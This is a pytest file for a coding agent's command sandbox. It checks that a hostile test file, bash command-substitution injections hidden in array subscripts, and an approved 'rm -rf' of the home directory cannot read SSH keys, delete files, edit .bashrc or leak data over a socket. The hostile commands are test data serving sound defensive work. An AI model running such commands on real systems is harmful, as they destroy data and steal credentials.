"""Commands the agent runs are contained, tried through the command line by their effect.

A repository's own tests are code: `run_tests` runs them (the policy allows it), so a hostile
test file is the simplest attack there is. Commands the policy misjudges (the bash
evaluation holes of the issue) and commands the user approves with `--yes` run contained
too. Where no sandbox can be had, an allowed command is asked instead (fail closed).
"""

from __future__ import annotations

import json
import os
import socketserver
import subprocess
import sys
import threading
import time
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from tests.conftest import make_repo
from tests.support.containment import outside_dir, planted_home, require_bwrap

from smol_instruments.base.config import Settings

SECRET = "sk-contained-0123456789"
VENV_BIN = Path(sys.executable).parent
CLI = (sys.executable, "-m", "smol_instruments")


@pytest.fixture
def outside() -> Iterator[Path]:
    with outside_dir() as path:
        yield path


@pytest.fixture
def home(outside: Path) -> Path:
    """A home directory holding credentials, visible to us but not to contained commands."""
    return planted_home(outside, SECRET)


class _Recorder(socketserver.StreamRequestHandler):
    def handle(self) -> None:
        self.server.received.append(self.rfile.readline().decode(errors="replace"))  # type: ignore[attr-defined]


@pytest.fixture
def server() -> Iterator[tuple[int, list[str]]]:
    srv = socketserver.ThreadingTCPServer(("127.0.0.1", 0), _Recorder)
    srv.received = []  # type: ignore[attr-defined]
    threading.Thread(target=srv.serve_forever, daemon=True).start()
    try:
        yield srv.server_address[1], srv.received  # type: ignore[attr-defined]
    finally:
        srv.shutdown()
        srv.server_close()


def cli(
    repo: Path, *argv: str, home: Path | None = None, path: str | None = None, **env: str
) -> subprocess.CompletedProcess[str]:
    environ = {k: v for k, v in os.environ.items() if k.lower() not in Settings.model_fields}
    environ.update(
        PHOENIX_ENABLED="false",
        SANDBOX_BACKEND="none",
        PATH=path or f"{VENV_BIN}{os.pathsep}{os.environ['PATH']}",
        MODEL_API_KEY=SECRET,
        OPENAI_API_KEY=SECRET,
    )
    if home is not None:
        environ["HOME"] = str(home)
    environ.update(env)
    return subprocess.run(
        [*CLI, *argv, "--repo", str(repo)],
        cwd=repo,
        env=environ,
        capture_output=True,
        text=True,
        timeout=300,
        stdin=subprocess.DEVNULL,
    )


def run_cmd(repo: Path, command: str, *flags: str, **kw: Any) -> dict[str, Any]:
    result = cli(repo, "tool", "run_cmd", "--args", json.dumps({"command": command}), *flags, **kw)
    return json.loads(result.stdout)


def test_a_hostile_test_file_is_contained(
    tmp_path: Path, outside: Path, home: Path, server: tuple[int, list[str]]
) -> None:
    require_bwrap()
    port, received = server
    victim = outside / "victim"
    victim.mkdir()
    (victim / "keep.txt").write_text("keep")
    repo = make_repo(tmp_path / "repo")
    (repo / "tests" / "test_evil.py").write_text(
        "import os, shutil, socket\n"
        "def attempt(what, fn):\n"
        "    try:\n"
        "        print(what, 'OK', fn())\n"
        "    except Exception as exc:\n"
        "        print(what, 'FAILED', type(exc).__name__)\n"
        "def test_evil():\n"
        f"    attempt('write', lambda: open({str(outside / 'marker')!r}, 'w').write('x'))\n"
        f"    attempt('delete', lambda: shutil.rmtree({str(victim)!r}))\n"
        f"    attempt('secret', lambda: open({str(home / '.ssh/id_ed25519')!r}).read())\n"
        "    attempt('home', lambda: sorted(os.listdir(os.path.expanduser('~'))))\n"
        "    attempt('rc', lambda: open(os.path.expanduser('~/.bashrc'), 'a').write('x'))\n"
        f"    attempt('net', lambda: socket.create_connection(('127.0.0.1', {port}), 3)"
        ".sendall(b'leak\\n'))\n"
        "    attempt('env', lambda: dict(os.environ))\n"
    )
    result = cli(
        repo,
        "tool",
        "run_tests",
        "--args",
        json.dumps({"command": "python -m pytest -q -s tests/test_evil.py"}),
        home=home,
    )
    data = json.loads(result.stdout)
    output = data["output"]
    assert data["verdict"] == "allow" and data["contained"] is True, data
    assert "write FAILED" in output and "delete FAILED" in output, output
    assert "secret FAILED" in output and SECRET not in output
    assert "home OK []" in output
    assert "net FAILED" in output
    assert "env OK" in output and SECRET not in output
    assert not (outside / "marker").exists()
    assert (victim / "keep.txt").read_text() == "keep"
    assert (home / ".bashrc").read_text() == "# rc\n"
    time.sleep(0.2)
    assert received == []


#: Commands the policy allowed although bash evaluates hidden code in them (issue 10).
MISJUDGED = (
    "[[ 1 -eq 'a[$(echo pwned > {out}/m1)]' ]]",
    "let 'a[$(echo pwned > {out}/m2)]'",
    "python -m timeit -s \"open('{out}/m3', 'w')\" pass",
    "git log --output {out}/m4",
    "printenv",
)


@pytest.mark.parametrize("flags", [(), ("--yes",)])
def test_misjudged_and_approved_commands_change_nothing_outside(
    tmp_path: Path, outside: Path, home: Path, flags: tuple[str, ...]
) -> None:
    require_bwrap()
    repo = make_repo(tmp_path / "repo")
    for command in MISJUDGED:
        data = run_cmd(repo, command.format(out=outside), *flags, home=home)
        assert SECRET not in json.dumps(data), command
        if "exit_code" in data:
            assert data["contained"] is True
    approved = run_cmd(repo, f"sh -c 'echo pwned > {outside}/m5; rm -rf {home}'", *flags, home=home)
    assert approved.get("contained", True) is True
    assert sorted(p.name for p in outside.iterdir()) == ["home"]
    assert (home / ".ssh" / "id_ed25519").exists()


def test_an_approved_network_command_reaches_the_server(
    tmp_path: Path, server: tuple[int, list[str]]
) -> None:
    require_bwrap()
    port, received = server
    repo = make_repo(tmp_path / "repo")
    command = f"git ls-remote http://127.0.0.1:{port}/repo.git"
    denied = run_cmd(repo, command)
    assert denied["error"] == "APPROVAL_DENIED"
    assert denied["context"]["widens"] == ["network", "git"]
    assert received == []
    approved = run_cmd(repo, command, "--yes")
    assert approved["contained"] is True and approved["widens"] == ["network", "git"]
    deadline = time.monotonic() + 5
    while not received and time.monotonic() < deadline:
        time.sleep(0.05)
    assert received and received[0].startswith("GET /repo.git/info/refs")


def test_the_terminal_shows_what_an_approval_widens(tmp_path: Path) -> None:
    from smol_instruments.safety.approval import ApprovalRequest, TerminalApprover

    class Answers:
        def __init__(self) -> None:
            self.written = ""

        def readline(self) -> str:
            return "n\n"

        def write(self, text: str) -> None:
            self.written += text

        def flush(self) -> None:
            return None

    out = Answers()
    request = ApprovalRequest(
        kind="command",
        subject="pip install requests",
        summary="pip install requests",
        rule="approval.package-install",
        reason="installs packages",
        widens=("network",),
    )
    TerminalApprover(stdin=out, stdout=out).decide(request)  # type: ignore[arg-type]
    assert "Approving also allows: network access" in out.written


@pytest.fixture
def path_without_bwrap(tmp_path: Path) -> str:
    """A PATH with the programs these commands need, and no bubblewrap."""
    bin_dir = tmp_path / "bin"
    bin_dir.mkdir()
    for name in ("bash", "sh", "git", "true", "echo", "cat", "ls", "rg", "python3", "env"):
        found = subprocess.run(["which", name], capture_output=True, text=True).stdout.strip()
        if found:
            (bin_dir / name).symlink_to(found)
    return f"{VENV_BIN}{os.pathsep}{bin_dir}"


def test_without_a_sandbox_allowed_commands_are_asked(
    tmp_path: Path, path_without_bwrap: str
) -> None:
    repo = make_repo(tmp_path / "repo")
    data = run_cmd(repo, "echo ran > ran.txt", path=path_without_bwrap)
    assert data["error"] == "APPROVAL_DENIED", data
    assert "no sandbox for commands" in data["message"]
    assert "apt-get install bubblewrap" in data["message"]
    assert not (repo / "ran.txt").exists()
    approved = run_cmd(repo, "echo ran > ran.txt", "--yes", path=path_without_bwrap)
    assert approved["contained"] is False and approved["exit_code"] == 0
    required = run_cmd(
        repo,
        "echo again > again.txt",
        "--yes",
        path=path_without_bwrap,
        COMMAND_CONTAINMENT="required",
    )
    assert required["error"] == "COMMAND_DENIED" and "cannot run" in required["message"]
    assert not (repo / "again.txt").exists()
    status = cli(repo, "tool", "git_status", path=path_without_bwrap)
    assert json.loads(status.stdout)["untracked"] == ["ran.txt"]  # git reads still work


def test_doctor_reports_containment(tmp_path: Path, path_without_bwrap: str) -> None:
    require_bwrap()
    repo = make_repo(tmp_path / "repo")

    def line(**kw: Any) -> str:
        result = cli(repo, "doctor", **kw)
        return next(x for x in result.stdout.splitlines() if x.split()[1:2] == ["containment"])

    assert line().startswith("ok") and "bubblewrap" in line() and "works" in line()
    assert "copy-on-write view" in line()
    off = line(COMMAND_CONTAINMENT="off")
    assert off.startswith("warn") and "OFF" in off and "NOT contained" in off
    missing = line(path=path_without_bwrap)
    assert missing.startswith("warn") and "apt-get install bubblewrap" in missing
    required = line(path=path_without_bwrap, COMMAND_CONTAINMENT="required")
    assert required.startswith("fail")


def test_doctor_says_when_no_view_can_be_mounted(tmp_path: Path) -> None:
    """overlayfs cannot take a path with a comma: commands would be asked, and doctor says
    why and what to do."""
    require_bwrap()
    repo = make_repo(tmp_path / "my,project")
    result = cli(repo, "doctor")
    line = next(x for x in result.stdout.splitlines() if x.split()[1:2] == ["containment"])
    assert line.startswith("warn") and "copy-on-write" in line, line
    assert "every command is asked" in line
    assert "COMMAND_CONTAINMENT=off" in result.stdout  # the fix, on the line after
    data = run_cmd(repo, "echo ran > ran.txt")
    assert data["error"] == "APPROVAL_DENIED" and "copy-on-write" in data["message"], data


def test_an_approved_commit_writes_git_with_the_users_identity(tmp_path: Path, home: Path) -> None:
    require_bwrap()
    (home / ".gitconfig").write_text("[user]\n\tname = Ada User\n\temail = ada@example.com\n")
    repo = make_repo(tmp_path / "repo")
    (repo / "new.txt").write_text("new\n")
    asked = run_cmd(repo, "git add new.txt", home=home)
    assert asked["error"] == "APPROVAL_DENIED" and asked["context"]["widens"] == ["git"]
    for command in ("git add new.txt", "git commit -q -m 'agent commit'"):
        data = run_cmd(repo, command, "--yes", home=home)
        assert data["exit_code"] == 0 and data["widens"] == ["git"], data
    log = subprocess.run(
        ["git", "log", "-1", "--format=%an <%ae> %s"], cwd=repo, capture_output=True, text=True
    )
    assert log.stdout.strip() == "Ada User <ada@example.com> agent commit"
